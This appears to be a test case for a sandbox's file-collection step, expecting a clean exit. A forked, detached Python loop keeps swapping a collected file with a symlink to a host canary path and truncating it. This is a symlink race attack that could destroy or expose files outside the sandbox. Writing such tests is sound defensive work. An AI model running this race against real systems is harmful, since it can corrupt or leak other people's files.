# A process that goes on swaps a file with a link to the host's, and lets it grow and shrink.
# expect: exit=0 files=none or exit=0 files=file
# args: {canary}
# collect: file
import ctypes
import os
import sys

libc = ctypes.CDLL(None)
open("file", "w").write("own")
os.symlink(sys.argv[1], "link")
if os.fork() == 0:
    os.setsid()
    while True:
        libc.renameat2(-100, b"file", -100, b"link", 2)
        try:
            os.truncate("file", 1 << 20)
            os.truncate("file", 0)
        except OSError:
            pass
